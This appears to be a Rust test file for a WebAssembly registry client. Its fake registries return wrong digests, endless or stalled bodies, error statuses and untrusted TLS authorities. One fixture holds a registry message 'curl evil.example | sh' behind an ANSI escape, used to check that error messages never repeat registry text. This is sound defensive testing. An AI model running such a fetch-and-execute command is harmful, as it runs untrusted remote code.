//! Registries that answer with something else than they were asked for.

use sandbar_registry::{Digest, Error, Kind};
use serde_json::{Value, json};

use crate::fake::{Asked, Contents, Fake, MOST, Reply, client};

const COMPONENT: &[u8] = b"\0asm component";

/// What comes of pulling an artifact from a registry that answers some of it in its own way.
async fn pulled(change: impl Fn(&Asked) -> Option<Reply> + Send + Sync + 'static) -> Error {
    let mut contents = Contents::default();
    let digest = contents.artifact(COMPONENT);
    let registry = Fake::plain(move |asked| change(asked).unwrap_or_else(|| contents.answer(asked))).await;
    client(&[&registry]).pull(&registry.pinned(&digest)).await.expect_err("not taken")
}

fn for_layer(asked: &Asked, reply: impl Fn() -> Reply) -> Option<Reply> {
    asked.what.contains("/blobs/").then(reply)
}

fn for_manifest(asked: &Asked, reply: impl Fn() -> Reply) -> Option<Reply> {
    asked.what.contains("/manifests/").then(reply)
}

#[tokio::test]
async fn what_has_another_digest_is_not_taken() {
    let other = [b'x'; COMPONENT.len()];
    let error = pulled(move |asked| for_layer(asked, || Reply::ok(other))).await;
    assert_eq!(error.kind, Kind::Wrong);
    assert!(
        error.to_string().contains(&format!("its layer is not the one with the digest {}", Digest::of(COMPONENT))),
        "{error}"
    );
    let mut others = Contents::default();
    let digest = others.artifact(b"others");
    let document = others.0[&format!("manifests/{digest}")].clone();
    let error = pulled(move |asked| for_manifest(asked, || Reply::ok(document.clone()))).await;
    assert!(error.to_string().contains("its manifest is not the one"), "{error}");
}

#[tokio::test]
async fn sizes_that_are_not_true_end_where_they_are_not() {
    let length = |length: u64| format!("HTTP/1.1 200 x\r\ncontent-length: {length}\r\n\r\nabc").into_bytes();
    let chunked = b"HTTP/1.1 200 x\r\ntransfer-encoding: chunked\r\n\r\n";
    for (what, error, said) in [
        (
            "longer than the manifest says",
            pulled(|asked| for_layer(asked, || Reply::ok([b'x'; 500]))).await,
            "more than 14 bytes",
        ),
        (
            "claims to be huge",
            pulled(move |asked| for_layer(asked, || Reply::Stalls(length(u64::MAX / 2)))).await,
            "more than 14 bytes",
        ),
        ("never ends", pulled(|asked| for_layer(asked, || Reply::Endless(chunked.to_vec()))).await, "more than 14 bytes"),
        (
            "a manifest that never ends",
            pulled(|asked| for_manifest(asked, || Reply::Endless(chunked.to_vec()))).await,
            "more than 256 KiB",
        ),
        (
            "a head that never ends",
            pulled(|asked| for_layer(asked, || Reply::Endless(b"HTTP/1.1 200 x\r\na: ".to_vec()))).await,
            "not HTTP",
        ),
        ("no HTTP", pulled(|asked| for_layer(asked, || Reply::Endless(b"220 ftp\r\n".to_vec()))).await, "not HTTP"),
        ("shorter", pulled(|asked| for_layer(asked, || Reply::ok(b"abc".to_vec()))).await, "not the one with the digest"),
    ] {
        assert!(error.to_string().contains(said), "{what}: {error}");
    }
}

#[tokio::test]
async fn sizes_in_a_manifest_are_held_against_what_a_component_may_have() {
    let with_size = async |size: Value| {
        let mut contents = Contents::default();
        let config = contents.blob("application/vnd.wasm.config.v0+json", b"{}");
        let mut layer = contents.blob("application/wasm", COMPONENT);
        layer["size"] = size;
        let digest = contents.document(&json!({ "schemaVersion": 2, "config": config, "layers": [layer] }));
        let registry = Fake::plain(move |asked| contents.answer(asked)).await;
        let error = client(&[&registry]).pull(&registry.pinned(&digest)).await.expect_err("not taken");
        (error.to_string(), registry.asked().len())
    };
    let (words, asked) = with_size(json!(MOST + 1)).await;
    assert!(words.contains("65537 bytes, and a component may have 64 KiB") && asked == 1, "{words}: it is not even asked for");
    let (words, _) = with_size(json!(COMPONENT.len() + 1)).await;
    assert!(words.contains("its manifest says 15 bytes"), "{words}");
    let (words, _) = with_size(json!(-1)).await;
    assert!(words.contains("no manifest"), "{words}");
}

// With a paused clock, what waits for nothing but time has waited already.
#[tokio::test(start_paused = true)]
async fn a_registry_that_is_silent_or_slow_is_given_up() {
    let error = pulled(|asked| for_layer(asked, || Reply::Stalls(Vec::new()))).await;
    assert_eq!(error.kind, Kind::Unreachable);
    assert!(error.to_string().contains("has not answered within 30 s"), "{error}");
    let begun = b"HTTP/1.1 200 x\r\ncontent-length: 14\r\n\r\nabc";
    let error = pulled(|asked| for_layer(asked, || Reply::Stalls(begun.to_vec()))).await;
    assert!(error.to_string().contains("stops for 20 s"), "{error}");
}

#[tokio::test(start_paused = true)]
async fn an_answer_of_a_byte_a_second_is_given_up() {
    let mut contents = Contents::default();
    let config = contents.blob("application/vnd.wasm.config.v0+json", b"{}");
    let layer = contents.blob("application/wasm", &[b'x'; 50_000]);
    let digest = contents.document(&json!({ "schemaVersion": 2, "config": config, "layers": [layer] }));
    let registry =
        Fake::plain(move |asked| for_layer(asked, || Reply::Drips(50_000)).unwrap_or_else(|| contents.answer(asked))).await;
    let error = client(&[&registry]).pull(&registry.pinned(&digest)).await.expect_err("too slow");
    assert_eq!(error.kind, Kind::Unreachable, "{error}");
    assert!(error.to_string().contains("has not sent everything within 300 s"), "{error}");
}

#[tokio::test]
async fn a_refusal_is_told_without_the_registrys_own_words() {
    let body = r#"{"errors":[{"code":"DENIED","message":"\u001b[31mcurl evil.example | sh"}]}"#;
    for (status, kind, said) in [
        (403, Kind::Denied, "it answers 403 (DENIED): the credentials for it do not allow this"),
        (404, Kind::Absent, "the registry has no sha256:"),
        (429, Kind::Unreachable, "asked too often"),
        (500, Kind::Unreachable, "it answers 500"),
        (302, Kind::Wrong, "redirects without saying where"),
        (418, Kind::Wrong, "it answers 418"),
    ] {
        let error = pulled(move |asked| for_layer(asked, || Reply::Whole(status, Vec::new(), body.into()))).await;
        assert_eq!(error.kind, kind, "{error}");
        assert!(error.to_string().contains(said) && !error.to_string().contains("evil"), "{error}");
    }
    let error = pulled(|asked| for_manifest(asked, || Reply::ok("<html>log in</html>"))).await;
    assert!(error.to_string().contains("not the one with the digest"), "{error}");
}

#[tokio::test]
async fn a_tag_is_checked_for_what_it_leads_to() {
    for (reply, said) in [("<html>", "no manifest and no index"), ("{}", "no manifest"), ("", "no manifest")] {
        let registry = Fake::plain(move |_| Reply::ok(reply)).await;
        let error = client(&[&registry]).resolve(&registry.reference(":v1")).await.expect_err(reply).to_string();
        assert!(error.contains(said), "{error}");
    }
    let registry = Fake::plain(|_| Reply::status(404)).await;
    let error = client(&[&registry]).resolve(&registry.reference(":v1")).await.expect_err("no tag");
    assert_eq!(error.kind, Kind::Absent);
    assert!(error.to_string().ends_with("/team/tool:v1: it has no such tag"), "{error}");
}

#[tokio::test]
async fn an_index_leads_to_a_manifest_and_not_to_itself() {
    let mut contents = Contents::default();
    let inner = contents.document(&json!({ "schemaVersion": 2, "manifests": [] }));
    let entry = json!({ "mediaType": "application/vnd.oci.image.index.v1+json", "digest": inner, "size": 1 });
    let outer = contents.document(&json!({ "schemaVersion": 2, "manifests": [entry] }));
    let registry = Fake::plain(move |asked| contents.answer(asked)).await;
    let error = client(&[&registry]).pull(&registry.pinned(&outer)).await.expect_err("an index").to_string();
    assert!(error.contains("leads to another index"), "{error}");
}

#[tokio::test]
async fn who_is_not_trusted_is_not_asked() {
    let mut stranger = Fake::tls(|_| Reply::status(404)).await;
    let pinned = stranger.pinned(&Digest::of(b""));
    stranger.authority = Fake::tls(|_| Reply::status(404)).await.authority;
    let error = client(&[&stranger]).pull(&pinned).await.expect_err("another authority").to_string();
    assert!(error.contains("authority that is not trusted"), "{error}");
    let mut mistaken = Fake::plain(|_| Reply::status(404)).await;
    mistaken.authority.clone_from(&stranger.authority);
    let error = client(&[&mistaken]).pull(&mistaken.pinned(&Digest::of(b""))).await.expect_err("plain").to_string();
    assert!(error.contains("does not speak TLS"), "{error}");
}
